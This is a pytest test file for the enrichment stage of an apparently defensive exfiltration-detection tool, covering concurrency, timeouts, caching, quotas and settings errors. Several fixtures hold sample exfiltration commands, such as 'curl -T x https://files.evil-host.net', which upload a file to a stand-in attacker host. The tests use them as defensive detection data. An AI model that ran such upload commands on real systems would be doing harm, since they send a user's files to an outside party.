"""All enrichers at once: one that fails, is late or is off is shown as such, and no case waits for it."""

import asyncio
import time
from datetime import timedelta

import pytest

from exfilwatch.errors import ConfigError
from exfilwatch.findings.store import Store
from exfilwatch_playbooks.enrichment.enrich import Enrichers
from exfilwatch_playbooks.enrichment.enricher import Quota
from exfilwatch_playbooks.enrichment.enrichers.place import Place
from exfilwatch_playbooks.enrichment.model import Enrichment, Status

from .made import NOW, START, UPLOAD, Broken, Echo, Slow, make, means, subject_of

SUBJECT = subject_of(UPLOAD)


async def run(tables=None, given=None, only=()) -> Enrichment:
    async with Enrichers(tables or {}, given or means()) as enrichers:
        (made,) = await enrichers.enrich([SUBJECT], only)
    return made


def enriched(tables=None, given=None, only=()) -> Enrichment:
    return asyncio.run(run(tables, given, only))


def test_facts_say_who_says_what_of_what_and_when(only):
    only(Echo)
    made = enriched({"echo": {}})
    assert [(each.enricher, each.about, each.value, each.time) for each in made.facts] == [
        ("echo", "files.evil-host.net", "files.evil-host.net", NOW),
        ("echo", "ab" * 32, "ab" * 32, NOW),
    ]
    assert made.of == SUBJECT.of
    assert made.severity.before == made.severity.after == "medium"


def test_one_that_breaks_costs_only_itself_and_tells_no_secret(only):
    only(Echo, Broken)
    made = enriched({"echo": {}, "broken": {}})
    assert [each.enricher for each in made.known] == ["echo", "echo"]
    (failed,) = made.unknown
    assert failed.status is Status.FAILED
    assert "ZeroDivisionError" in failed.reason
    assert "hunter2" not in made.model_dump_json()


def test_one_that_is_late_is_not_waited_for(only):
    only(Echo, Slow)
    started = time.monotonic()

    async def timed():
        async with Enrichers({"echo": {}, "slow": {}}, means()) as enrichers:
            (made,) = await enrichers.enrich([SUBJECT])
            return made, time.monotonic() - started

    made, took = asyncio.run(timed())
    assert took < 30
    (late,) = made.unknown
    assert late.status is Status.LATE
    assert late.reason.startswith("no answer within 0.03 s")


def test_one_that_is_not_in_the_settings_is_shown_with_how_to_turn_it_on(only):
    only(Echo, Place)
    made = enriched()
    assert [(each.enricher, each.status, each.reason) for each in made.unknown] == [
        ("echo", Status.NOT_CONFIGURED, "off: a table [enrichment.echo] turns it on")
    ]
    assert made.fact("place.class", "files.evil-host.net").value == "no known service"
    assert Echo.asked == []


def test_one_can_be_turned_off(only):
    only(Place)
    (off,) = enriched({"place": {"enabled": False}}).facts
    assert off.reason == "off: enabled = false in [enrichment.place]"


def test_an_answer_is_kept_for_its_lifetime_also_for_another_process(only, store):
    only(Echo)
    tables = {"echo": {"lifetime": "1h"}}
    enriched(tables, means(store))
    later = enriched(tables, means(store, now=NOW + timedelta(minutes=59)))
    assert len(Echo.asked) == 2
    assert {each.time for each in later.facts} == {NOW}
    enriched(tables, means(store, now=NOW + timedelta(minutes=61)))
    assert len(Echo.asked) == 4


def test_other_settings_are_another_question(only, store):
    only(Echo)
    enriched({"one": {"kind": "echo"}}, means(store))
    enriched({"two": {"kind": "echo"}}, means(store))
    assert len(Echo.asked) == 4


def test_failures_are_not_kept(only, store):
    only(Broken)
    assert enriched({"broken": {}}, means(store)).unknown
    only(Echo)
    assert enriched({"broken": {"kind": "echo"}}, means(store)).known


def test_one_indicator_of_many_incidents_is_asked_about_once(only):
    only(Echo)
    subjects = [
        subject_of(make(f"{at}", host=f"WS{at}", CommandLine="curl -T x https://files.evil-host.net"))
        for at in range(20)
    ]

    async def all_of_them():
        async with Enrichers({"echo": {}}, means()) as enrichers:
            return await enrichers.enrich(subjects)

    made = asyncio.run(all_of_them())
    assert [each.value for each in Echo.asked] == ["files.evil-host.net"]
    assert all(each.fact("echo.said").value == "files.evil-host.net" for each in made)


@pytest.mark.parametrize(
    ("quota", "said"),
    [
        (Quota(per_minute=1), "its quota of 1 questions a minute is used up"),
        (Quota(per_minute=9, per_day=1), "its quota of 1 questions a day is used up"),
    ],
)
def test_a_quota_is_kept_to_over_processes(only, store, monkeypatch, quota, said):
    only(Echo)
    monkeypatch.setattr(Echo, "limits", quota)
    first = enriched({"echo": {"lifetime": "0s"}}, means(store))
    assert len(first.known) == len(Echo.asked) == 1
    assert first.unknown[0].reason.startswith(said)
    enriched({"echo": {"lifetime": "0s"}}, means(store, now=NOW + timedelta(seconds=20)))
    assert len(Echo.asked) == 1
    enriched({"echo": {"lifetime": "0s"}}, means(store, now=NOW + timedelta(days=1)))
    assert len(Echo.asked) == 2


def test_the_last_enrichment_is_kept_also_with_text_that_no_database_takes(only, store):
    only(Place)
    odd = subject_of(make("b", host="WS\x00\ud800", CommandLine="curl -T x https://xn--e1afmkfd.net"))

    async def twice():
        async with Enrichers({}, means(store)) as enrichers:
            await enrichers.enrich([odd])
            (made,) = await enrichers.enrich([odd])
            return made, enrichers.kept(odd.of), enrichers.kept("no such")

    made, kept, none = asyncio.run(twice())
    assert made == kept
    assert none is None


def test_what_is_kept_is_kept_in_any_database(only, database):
    only(Echo)
    odd = subject_of(make("c", host="WS\x00\ud800", CommandLine="curl -T x https://evil-host.net"))

    async def ask(now):
        given = means(Store(database), now=now)
        async with Enrichers({"echo": {"lifetime": "1h"}}, given) as enrichers:
            (made,) = await enrichers.enrich([odd])
            return made, enrichers.kept(odd.of)

    for minutes, times in ((0, 1), (30, 1), (61, 2)):
        made, kept = asyncio.run(ask(NOW + timedelta(minutes=minutes)))
        assert made == kept
        assert len(Echo.asked) == times


@pytest.mark.parametrize(
    ("tables", "said"),
    [
        ({"nothing": {}}, "enrichment.nothing: there is no such enricher: say which one it is with kind = place"),
        ({"place": {"color": 1}}, "enrichment.place: color: there is no such setting, use kind, enabled, deadline"),
        ({"place": {"deadline": "soon"}}, "enrichment.place: deadline: use a number with s, m, h or d"),
        ({"general": {"days": 0}}, "enrichment.general: days: Input should be greater than or equal to 1"),
        ({"general": {"severity": "/no/such.yml"}}, "severity: /no/such.yml: can't be read"),
    ],
)
def test_wrong_settings_say_what_to_change(only, tables, said):
    only(Place)
    with pytest.raises(ConfigError) as error:
        Enrichers(tables, means())
    assert said in str(error.value)


def test_one_can_be_asked_alone(only):
    only(Echo, Place)
    made = enriched({"echo": {}}, only=["place"])
    assert {each.enricher for each in made.facts} == {"place"}
    with pytest.raises(ConfigError, match="there is no enricher nobody: use place, echo"):
        enriched({"echo": {}}, only=["nobody"])


def test_an_incident_of_a_thousand_uploads_asks_no_more_than_ten_times(only):
    only(Echo)
    many = subject_of(
        *(make(f"{at}", at / 100, CommandLine=f"curl -T x https://h{at}.evil-host.net") for at in range(1000))
    )

    async def ask():
        async with Enrichers({"echo": {}}, means()) as enrichers:
            await enrichers.enrich([many])

    asyncio.run(ask())
    assert len(Echo.asked) == 10
    assert many.start == START
